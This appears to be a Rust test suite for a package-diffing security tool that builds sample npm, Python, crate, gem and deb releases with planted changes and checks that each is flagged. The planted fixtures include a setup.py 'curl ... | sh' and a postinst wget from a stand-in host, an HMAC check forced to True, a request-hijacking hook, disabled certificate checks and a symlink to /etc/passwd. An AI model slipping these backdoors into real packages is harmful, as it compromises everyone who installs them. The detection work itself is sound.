//! `doorward diff` and `audit --baseline`: ordinary releases stay quiet, one planted change shows, and so does every mutation.
//! All packages are made here, from text; nothing in them is run.

use crate::archives::{Member, base, gzip, mutations, tar, zip};
use crate::{audit, doorward, run};
use serde_json::Value;
use std::fs;
use std::path::{Path, PathBuf};

fn ar(members: &[(&str, Vec<u8>)]) -> Vec<u8> {
    let mut ar = b"!<arch>\n".to_vec();
    for (name, bytes) in members {
        ar.extend_from_slice(format!("{name:<16}{:<12}{:<6}{:<6}{:<8}{:<10}`\n", 0, 0, 0, "100644", bytes.len()).as_bytes());
        ar.extend_from_slice(bytes);
        if bytes.len() % 2 == 1 {
            ar.push(b'\n');
        }
    }
    ar
}

/// The files of a package: paths and bytes.
type Files = [(String, Vec<u8>)];

/// A kind of package: the name of its archive, what makes one of its files, its files, and the change that is planted.
struct Ecosystem {
    archive: fn(&str) -> String,
    pack: fn(&Files) -> Vec<u8>,
    /// Paths and texts; `VERSION` is the version, `PLANT` where the planted text goes.
    files: &'static [(&'static str, &'static str)],
    planted: &'static str,
    /// What the difference then says.
    shows: &'static str,
}

fn plain(files: &Files) -> Vec<Member<'_>> {
    files.iter().map(|(name, bytes)| (name.clone(), 0o644, bytes.as_slice())).collect()
}

/// The files whose path begins with a prefix, without it.
fn below<'a>(files: &'a [(String, Vec<u8>)], prefix: &str) -> Vec<Member<'a>> {
    let named = |(name, bytes): &'a (String, Vec<u8>)| Some((name.strip_prefix(prefix)?.to_owned(), 0o644, bytes.as_slice()));
    files.iter().filter_map(named).collect()
}

const ECOSYSTEMS: &[Ecosystem] = &[
    Ecosystem {
        archive: |version| format!("palette-{version}.tgz"),
        pack: |files| gzip(&tar(&plain(files))),
        files: &[
            (
                "package/package.json",
                "{\"name\": \"palette\", \"version\": \"VERSION\", \"main\": \"index.js\", \"scripts\": {PLANT}}",
            ),
            ("package/index.js", "exports.version = 'VERSION';\nexports.mix = (a, b) => (a + b) / 2;\n"),
            ("package/README.md", "# palette VERSION\n"),
        ],
        planted: "\"postinstall\": \"node index.js\"",
        shows: "postinstall node index.js",
    },
    Ecosystem {
        archive: |version| format!("palette-{version}.tar.gz"),
        pack: |files| gzip(&tar(&plain(files))),
        files: &[
            ("palette-VERSION/PKG-INFO", "Metadata-Version: 2.1\nName: palette\nVersion: VERSION\n\nMixes.\n"),
            ("palette-VERSION/setup.py", "from setuptools import setup\nPLANT\nsetup(name='palette', version='VERSION')\n"),
            ("palette-VERSION/palette/__init__.py", "__version__ = 'VERSION'\n\ndef mix(a, b):\n    return (a + b) / 2\n"),
        ],
        planted: "import os\nos.system('curl https://updates.example.test/x.sh | sh')",
        shows: "updates.example.test",
    },
    Ecosystem {
        archive: |version| format!("palette-{version}-py3-none-any.whl"),
        pack: |files| zip(&plain(files)),
        files: &[
            (
                "palette/__init__.py",
                "import hmac\n\ndef check(a, b):\n    return PLANT\n\ndef mix(a, b):\n    return (a + b) / 2\n",
            ),
            ("palette-VERSION.dist-info/METADATA", "Metadata-Version: 2.1\nName: palette\nVersion: VERSION\n\nMixes.\n"),
            ("palette-VERSION.dist-info/WHEEL", "Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: py3-none-any\n"),
        ],
        planted: "True",
        shows: "no longer calls compare_digest (checks digest)",
    },
    Ecosystem {
        archive: |version| format!("palette-{version}.crate"),
        pack: |files| gzip(&tar(&plain(files))),
        files: &[
            ("palette-VERSION/Cargo.toml", "[package]\nname = \"palette\"\nversion = \"VERSION\"\n\n[dependencies]\nPLANT\n"),
            ("palette-VERSION/src/lib.rs", "//! Mixes, VERSION.\npub fn mix(a: u8, b: u8) -> u8 {\n    a / 2 + b / 2\n}\n"),
        ],
        planted: "palette-helper = { git = \"https://git.example.test/palette-helper\" }",
        shows: "palette-helper git",
    },
    Ecosystem {
        archive: |version| format!("palette-{version}.gem"),
        pack: |files| {
            let data = gzip(&tar(&below(files, "data/")));
            let metadata = gzip(&files[0].1);
            tar(&[("metadata.gz".into(), 0o444, &metadata), ("data.tar.gz".into(), 0o444, &data)])
        },
        files: &[
            (
                "metadata",
                "--- !ruby/object:Gem::Specification\nname: palette\nversion: !ruby/object:Gem::Version\n  version: VERSION\n\
                 authors:\n- Ada Example\nemail:\n- PLANT\nsummary: Mixes.\n",
            ),
            ("data/lib/palette.rb", "module Palette\n  VERSION = 'VERSION'\nend\n"),
        ],
        planted: "somebody@else.example.test",
        shows: "somebody@else.example.test",
    },
    Ecosystem {
        archive: |version| format!("palette_{version}_all.deb"),
        pack: |files| {
            let (control, data) = (gzip(&tar(&below(files, "control/"))), gzip(&tar(&below(files, "data/"))));
            ar(&[("debian-binary", b"2.0\n".to_vec()), ("control.tar.gz", control), ("data.tar.gz", data)])
        },
        files: &[
            (
                "control/control",
                "Package: palette\nVersion: VERSION\nArchitecture: all\nMaintainer: Ada <ada@example.test>\nDescription: Mixes.\n",
            ),
            ("control/postinst", "#!/bin/sh\nset -e\nPLANT\nexit 0\n"),
            ("data/usr/share/palette/colors", "red green VERSION\n"),
        ],
        planted: "wget -q -O /tmp/x http://updates.example.test/x",
        shows: "updates.example.test",
    },
];

impl Ecosystem {
    /// Writes a version into a folder.
    fn write(&self, folder: &Path, version: &str, plant: &str) -> PathBuf {
        let filled = |text: &str| text.replace("VERSION", version).replace("PLANT", plant);
        let files: Vec<_> = self.files.iter().map(|(name, text)| (filled(name), filled(text).into_bytes())).collect();
        let path = folder.join((self.archive)(version));
        fs::write(&path, (self.pack)(&files)).unwrap();
        path
    }

    /// What stands where nothing is planted.
    fn clean(&self) -> &'static str {
        match self.shows {
            "no longer calls compare_digest (checks digest)" => "hmac.compare_digest(a, b)",
            "somebody@else.example.test" => "ada@example.test",
            _ => "",
        }
    }
}

fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

fn json(old: &Path, new: &Path) -> Value {
    let output = doorward().arg("diff").arg(old).arg(new).args(["--json", "-"]).output().unwrap();
    serde_json::from_slice(&output.stdout).unwrap_or_else(|error| panic!("{error}: {}", String::from_utf8_lossy(&output.stderr)))
}

#[test]
fn releases_stay_quiet_and_one_planted_change_shows() {
    for ecosystem in ECOSYSTEMS {
        let folder = tempfile::tempdir().unwrap();
        let old = ecosystem.write(folder.path(), "1.4.0", ecosystem.clean());
        let new = ecosystem.write(folder.path(), "1.5.0", ecosystem.clean());
        let ran = run(&["diff", text(&old), text(&new), "--fail-on", "any"]);
        assert_eq!(ran.code, 0, "{}", ran.out);
        assert!(ran.out.starts_with("QUIET  palette 1.4.0 -> 1.5.0") && ran.out.lines().count() == 3, "{}", ran.out);
        let planted = ecosystem.write(folder.path(), "1.6.0", ecosystem.planted);
        let ran = run(&["diff", text(&old), text(&planted), "--fail-on", "any"]);
        assert!(ran.code == 1 && ran.out.contains(ecosystem.shows), "{}: {}", planted.display(), ran.out);
        assert!(!ran.out.contains(" 1 removed") && !ran.out.contains(" 1 moved"), "{}", ran.out);
    }
}

/// One file before and after, and what the difference of weight then says; nothing where it stays quiet.
const ALTERED: &[(&str, &str, &str, &str)] = &[
    ("lib.js", "get(u, {})\n", "get(u, { rejectUnauthorized: false })\n", "switches off: certificate rejectUnauthorized false"),
    (
        "auth.py",
        "import logging\nlogger = logging.getLogger('a')\ndef enter(name):\n    logger.warning('refused')\n    return open(name)\n",
        "import logging\nlogger = logging.getLogger('a')\ndef enter(name):\n    return open(name)\n",
        "enter logs no warning or error any more",
    ),
    ("kdf.py", "import hashlib\nITERATIONS = 600000\n", "import hashlib\nITERATIONS = 1000\n", "ITERATIONS = 1000 (was 600000)"),
    ("curve.rs", "pub const CURVE: &str = \"P-256\";\n", "pub const CURVE: &str = \"P-192\";\n", "CURVE = P-192 (was P-256)"),
    ("net.js", "exports.a = 1\n", "exports.a = 1 // see https://spec.example.test/a\n", ""),
    ("net.js", "exports.a = 1\n", "exports.a = 'https://take.example.test/a'\n", "take.example.test"),
    ("tests/net.js", "exports.a = 1\n", "exports.a = 'https://take.example.test/a'\n", ""),
    (
        "run.js",
        "exports.a = 1\n",
        "require('child_process').exec('uname -a')\n",
        "starts a program: uname -a (the first of its kind)",
    ),
    ("hook.js", "exports.a = 1\n", "XMLHttpRequest.prototype.send = function (body) { return keep(body) }\n", "replaces"),
    (
        "setup.py",
        "from setuptools import setup\nsetup(name='palette')\n",
        "from setuptools import setup\ndata = open('tests/good-large.bin', 'rb').read()\nsetup(name='palette')\n",
        "tests/good-large.bin",
    ),
    ("blob.bin", "", "\u{1}\u{2}\u{3}\u{4}\u{5}\u{6}\u{7}\u{e}\u{f}\u{10}\u{11}\u{12}", "of no known format: blob.bin"),
    (
        "package.json",
        "{\"name\": \"p\", \"version\": \"1.0.0\"}",
        "{\"name\": \"p\", \"version\": \"1.0.0\", \"bin\": {\"ls\": \"a.js\"}}",
        "bin ls a.js",
    ),
];

#[test]
fn one_altered_file_says_what_it_newly_does() {
    for (name, before, after, says) in ALTERED {
        let folder = tempfile::tempdir().unwrap();
        let side = |side: &str, bytes: &str| {
            let root = folder.path().join(side);
            fs::create_dir_all(root.join("tests")).unwrap();
            fs::write(root.join("tests/good-large.bin"), b"\x01\x02 data of tests").unwrap();
            fs::write(root.join("tests/test_all.py"), b"def test_all():\n    pass\n").unwrap();
            fs::write(root.join(name), bytes).unwrap();
            root
        };
        let (old, new) = (side("old", before), side("new", after));
        let ran = run(&["diff", text(&old), text(&new), "--fail-on", "any"]);
        match *says {
            "" => assert!(ran.code == 0 && ran.out.lines().count() == 3, "{name}: {}", ran.out),
            says => assert!(ran.code == 1 && ran.out.contains(says), "{name}, {says}: {}", ran.out),
        }
        let back = run(&["diff", text(&new), text(&new), "--fail-on", "any"]);
        assert!(back.code == 0 && back.out.starts_with("QUIET"), "{name}: {}", back.out);
    }
}

#[test]
fn planted_doors_are_told_from_the_clean_twin() {
    for twin in ["npm/lantern-colors", "pypi/lantern_colors"] {
        let at = |version: &str| format!("{}/../fixtures/planted/{twin}-{version}", env!("CARGO_MANIFEST_DIR"));
        let ran = run(&["diff", &at("1.2.0"), &at("1.2.1")]);
        assert_eq!(ran.code, 1, "{}", ran.out);
        for door in ["ALARM  BLD-4 flow/downloaded-code-evaluated", "REVIEW  BLD-7", "REVIEW  KEY-3", "updates.example.test"] {
            assert!(ran.out.contains(door), "{door}: {}", ran.out);
        }
        assert_eq!(run(&["diff", &at("1.2.0"), &at("1.2.1"), "--fail-on", "none"]).code, 0);
        assert_eq!(run(&["diff", &at("1.2.1"), &at("1.2.0")]).code, 0, "what goes away is no failure");
        let markdown = run(&["diff", &at("1.2.0"), &at("1.2.1"), "--markdown"]);
        assert!(markdown.out.starts_with("**ALARM**") && markdown.out.lines().count() <= 40, "{}", markdown.out);
        assert_eq!(markdown.out, run(&["diff", &at("1.2.0"), &at("1.2.1"), "--markdown", "--threads", "1"]).out);
    }
    assert_eq!(run(&["diff", "/nonexistent", "/nonexistent"]).code, 2);
}

#[test]
fn every_mutation_shows() {
    let folder = tempfile::tempdir().unwrap();
    let old = folder.path().join("tool-1.0.tar.gz");
    fs::write(&old, gzip(&tar(&base()))).unwrap();
    for (what, bytes, fate) in mutations() {
        let new = folder.path().join("tool-1.1.tar.gz");
        fs::write(&new, bytes).unwrap();
        let difference = json(&old, &new);
        let places = difference["places"].as_array().unwrap();
        let told = places.iter().any(|place| place["fate"] == fate && place["container"] == false);
        assert!(told, "{what}: {difference:#}");
        let ran = run(&["diff", text(&old), text(&new), "--fail-on", "none"]);
        assert!(ran.out.contains(&format!("1 {fate}")), "{what}: {}", ran.out);
    }
}

#[test]
fn rights_links_and_hidden_bytes_are_of_weight() {
    let folder = tempfile::tempdir().unwrap();
    let old = folder.path().join("tool-1.0.tar.gz");
    fs::write(&old, gzip(&tar(&base()))).unwrap();
    let mut members = base();
    members[2].1 = 0o4755;
    members[0].1 = 0o755;
    members[4].2 = b"->../../etc/passwd";
    members[3].2 = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0";
    let new = folder.path().join("tool-1.1.tar.gz");
    fs::write(&new, [gzip(&tar(&members)), b"trailing bytes".to_vec()].concat()).unwrap();
    let ran = run(&["diff", text(&old), text(&new), "--fail-on", "any"]);
    assert_eq!(ran.code, 1);
    for said in ["configure runs as its owner", "main.c may run", "points to ../../etc/passwd", "unaccounted: the input itself"] {
        assert!(ran.out.contains(said), "{said}: {}", ran.out);
    }
}

#[test]
fn a_second_executable_is_new_and_one_that_was_renamed_is_not() {
    let elf = |last: u8| [b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".as_slice(), &[0; 40], &[last]].concat();
    let folder = tempfile::tempdir().unwrap();
    let write = |name: &str, members: &[Member<'_>]| {
        let path = folder.path().join(name);
        fs::write(&path, tar(members)).unwrap();
        path
    };
    let (one, two) = (elf(1), elf(2));
    let old = write("a-1.tar", &[("a/bin/one".into(), 0o755, &one)]);
    let second = write("a-2.tar", &[("a/bin/one".into(), 0o755, &one), ("a/lib/two".into(), 0o755, &two)]);
    let ran = run(&["diff", text(&old), text(&second), "--fail-on", "any"]);
    assert!(ran.code == 1 && ran.out.contains("executable: a/lib/two"), "{}", ran.out);
    let renamed = write("a-3.tar", &[("a/sbin/other".into(), 0o755, &one)]);
    let ran = run(&["diff", text(&old), text(&renamed), "--fail-on", "any"]);
    assert!(!ran.out.contains("New executables") && ran.out.contains("1 moved"), "{}", ran.out);
}

#[test]
fn an_archive_and_its_folder_are_the_same() {
    let folder = tempfile::tempdir().unwrap();
    let archive = folder.path().join("tool-1.0.tar.gz");
    fs::write(&archive, gzip(&tar(&base()))).unwrap();
    let unpacked = folder.path().join("unpacked");
    for (name, _, bytes) in base().iter().take(4) {
        let path = unpacked.join(name.strip_prefix("tool-1.0/").unwrap());
        fs::create_dir_all(path.parent().unwrap()).unwrap();
        fs::write(path, bytes).unwrap();
    }
    let places = json(&archive, &unpacked)["places"].as_array().unwrap().clone();
    let fates: Vec<_> = places.iter().map(|place| place["fate"].as_str().unwrap()).collect();
    // The root is a folder now, `configure` lost its bit, and the link was not unpacked.
    assert_eq!(fates, ["changed", "relabelled", "removed"], "{places:#?}");
}

#[test]
fn saved_reports_compare_and_baselines_count() {
    let folder = tempfile::tempdir().unwrap();
    let at = |version: &str| format!("{}/../fixtures/planted/npm/lantern-colors-{version}", env!("CARGO_MANIFEST_DIR"));
    let saved = |version: &str, flags: &[&str]| {
        let path = folder.path().join(format!("{version}-{}.json", flags.len()));
        let report = audit(Path::new(&at(version)), flags);
        fs::write(&path, report.bytes).unwrap();
        path
    };
    let (bare, full) = (saved("1.2.0", &[]), saved("1.2.0", &["--facts"]));
    let (whole, planted) = (json(Path::new(&at("1.2.0")), Path::new(&at("1.2.1"))), at("1.2.1"));
    for (old, compared) in [(&bare, false), (&full, true)] {
        let difference = json(old, Path::new(&planted));
        assert_eq!(difference["doors"], whole["doors"]);
        assert_eq!(difference["places"], whole["places"]);
        assert_eq!(difference["not_compared"].as_array().unwrap().is_empty(), compared);
        let has = |class: &str| difference["changes"].as_array().unwrap().iter().any(|change| change["class"] == class);
        assert!(has("destination") && has("key") && has("install"), "{difference:#}");
        assert_eq!(has("capability"), compared);
        assert_eq!(run(&["diff", text(old), &planted]).code, 1);
    }
    assert_eq!(json(&full, Path::new(&at("1.2.0")))["places"], serde_json::json!([]));
    let broken = folder.path().join("broken.json");
    fs::write(&broken, b"{\"schema\": \"doorward-report/1\"}").unwrap();
    assert_eq!(run(&["diff", text(&broken), &planted]).code, 2);

    let ran = run(&["audit", &planted, "--baseline", text(&bare)]);
    assert!(ran.code == 1 && ran.out.contains("Known     0 findings"), "{}", ran.out);
    let known = saved("1.2.1", &[]);
    let ran = run(&["audit", &planted, "--baseline", text(&known)]);
    assert_eq!(ran.code, 0, "{}", ran.out);
    assert!(ran.out.contains("that the baseline has") && !ran.out.contains("ALARM"), "{}", ran.out);
    let report = audit(Path::new(&planted), &["--baseline", text(&known)]);
    assert!(report.verdict() == "pass" && report.json["findings"][0]["known"] == true);
    assert_eq!(run(&["audit", &planted, "--baseline", text(&broken)]).code, 2);
}
